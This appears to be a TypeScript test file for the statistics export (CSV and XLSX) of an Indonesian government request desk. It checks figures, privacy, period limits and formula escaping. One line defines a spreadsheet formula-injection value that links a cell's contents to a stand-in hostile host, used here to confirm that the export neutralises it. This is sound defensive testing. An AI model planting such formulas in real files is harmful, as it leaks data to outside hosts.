import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { answerOf } from '../support/answers';
import { caseAfter } from '../support/cases';
import { deskOf, type DeskClient } from '../support/desk';
import { newestPath, postForm } from '../support/people';
import { submission } from '../support/submission';
import { startWorld, type World } from '../support/world';

const trap = '=HYPERLINK("https://jahat.example?x="&A1,"klik")';
let w: World;
let desk: DeskClient;
let page: string;
type Rows = Record<string, string>[];
let rows: Rows;

const fetchFile = async (path: string) => {
  const answer = await desk.get(path);
  expect(answer.status).toBe(303);
  return Buffer.from(await (await fetch(answer.headers.get('location') ?? '')).arrayBuffer());
};
const ask = (fields: Record<string, string>) => desk.post('/meja/statistik', fields);
const csvOf = async (exportPath: string): Promise<Rows> =>
  parse((await fetchFile(`${exportPath}/csv`)).toString('utf8'), { columns: true, bom: true });
const months = { dari: '2026-01', sampai: '2026-12' };

beforeAll(async () => {
  w = await startWorld();
  desk = deskOf(w);
  await caseAfter(w, ['accept']);
  w.world.now = new Date('2026-11-27T02:00:00Z');
  await postForm(w, newestPath(w), answerOf.forward);
  await w.submit(submission({ agency: { ...submission().agency, name: trap } }));
  w.world.now = new Date('2026-12-02T02:00:00Z');
  await postForm(w, newestPath(w), answerOf.reject);
  await desk.signIn();
  page = (await ask(months)).headers.get('location') ?? '';
  rows = await csvOf(page);
});
afterAll(() => w.stop());

/** The cells of the page's table of paces, by step. */
const paces = async () => {
  const html = await desk.page('/meja/statistik?dari=2026-01&sampai=2026-12');
  const [table = ''] = /<table[^>]*>(?:(?!<\/table>).)*Waktu tiap langkah.*?<\/table>/s.exec(html) ?? [];
  const cells = [...table.matchAll(/<tr[^>]*>(.*?)<\/tr>/gs)].map(([, row = '']) =>
    [...row.matchAll(/<t[hd][^>]*>(.*?)<\/t[hd]>/gs)].map(([, cell = '']) => cell.replaceAll(/<[^>]+>/g, '').trim()),
  );
  return cells.filter(([name]) => /^\d\./.test(name ?? ''));
};
const rank = (days: number[], share: number) => `${days.sort((a, b) => a - b)[Math.ceil(share * days.length) - 1]}`;

it('exports rows from which the numbers of the page can be computed again', async () => {
  const computed = ['2', '3'].map((step) => {
    const of = rows.filter((row) => row.Langkah === step && row.Peristiwa === 'Diputus');
    const days = of.map((row) => Number(row['Hari kerja']));
    const onTime = of.filter((row) => row['Tepat waktu'] === 'Ya').length;
    return [
      `${step}. ${of[0]?.['Nama langkah']}`,
      `${of.length}`,
      rank(days, 0.5),
      rank(days, 0.9),
      of[0]?.['Standar hari kerja'],
      `${Math.round((onTime / of.length) * 100)}%`,
    ];
  });
  expect(computed).toEqual(await paces());
  expect(rows.filter((row) => row.Peristiwa === 'Masuk')).toHaveLength(2);
});

it('writes the same rows as XLSX, with numbers that can be counted with', async () => {
  const [titles = [], ...cells] = await readSheet(await fetchFile(`${page}/xlsx`));
  const read = cells.map((row) =>
    Object.fromEntries(titles.map((title, index) => [String(title), `${row[index] ?? ''}`])),
  );
  const unquoted = rows.map((row) => ({ ...row, 'OPD pemohon': row['OPD pemohon']?.replace(/^'/, '') }));
  expect(read).toEqual(unquoted);
  expect(cells[1]?.[titles.indexOf('Hari kerja')]).toBe(0);
});

it('makes no formula of an agency that is named like one', async () => {
  expect(rows.at(-1)?.['OPD pemohon']).toBe(`'${trap}`);
  const sheet = await readSheet(await fetchFile(`${page}/xlsx`));
  expect(sheet.at(-1)).toContain(trap);
});

it('names posts and nobody', () => {
  expect(rows.find((row) => row.Langkah === '3')).toMatchObject({
    Jabatan: expect.stringContaining('Kepala Bidang'),
    'Tepat waktu': 'Tidak',
  });
  expect(JSON.stringify(rows)).not.toMatch(/@|\d{18}/);
});

it('holds what was chosen only', async () => {
  const exportPath = (await ask({ dari: '2026-11', sampai: '2026-11', langkah: 'division-disposition' })).headers;
  expect(await csvOf(exportPath.get('location') ?? '')).toHaveLength(1);
});

it('says that there is nothing, and makes no file', async () => {
  const empty = (await ask({ dari: '2026-02', sampai: '2026-03' })).headers.get('location') ?? '';
  expect(await desk.page(empty)).toContain('Tidak ada putusan pada masa ini');
});

it.each([
  ['longer than a year', { dari: '2025-01', sampai: '2026-11' }, 'Paling banyak 12 bulan'],
  ['reversed', { dari: '2026-11', sampai: '2026-01' }, 'Tukar keduanya'],
])('refuses a period that is %s, and keeps what was typed', async (_name, fields, message) => {
  const answer = await ask(fields);
  const html = await answer.text();
  expect(answer.status).toBe(400);
  expect(html).toContain(message);
  expect(html).toContain(`value="${fields.dari}"`);
});

it('offers no more than a year where more is shown', async () => {
  expect(await desk.page('/meja/statistik?dari=2025-01&sampai=2026-12')).toContain('Paling banyak 12 bulan');
});
